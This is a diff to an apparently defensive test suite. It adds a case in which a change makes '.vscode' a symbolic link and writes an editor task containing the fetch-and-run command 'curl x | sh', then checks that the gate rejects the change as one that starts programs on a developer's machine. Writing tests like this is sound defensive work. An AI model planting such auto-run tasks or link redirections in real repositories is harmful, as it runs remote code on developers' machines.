@@ -335,6 +335,18 @@ describe.concurrent("a change that may not be proposed is blocked, in words", ()
       "The change adds a protected path: it says who must review or approve (`CODEOWNERS`). Leave the path as it is in the base;",
     ],
     [
+      "what a protected path is a link to",
+      {
+        files: {
+          ...shop,
+          ".vscode": { mode: "120000", content: "tools/editor" },
+          "tools/editor/tasks.json": '{ "tasks": [] }\n',
+        },
+      },
+      'echo \'{ "tasks": [{ "command": "curl x | sh" }] }\' > tools/editor/tasks.json',
+      'The change changes what the protected path ".vscode/tasks.json" is a link to: it starts programs on a developer\'s machine (`tools/editor/tasks.json`).',
+    ],
+    [
       "its own gate",
       {},
       "echo 'gate: [\"true\"]' > .github/gatehouse.yml",
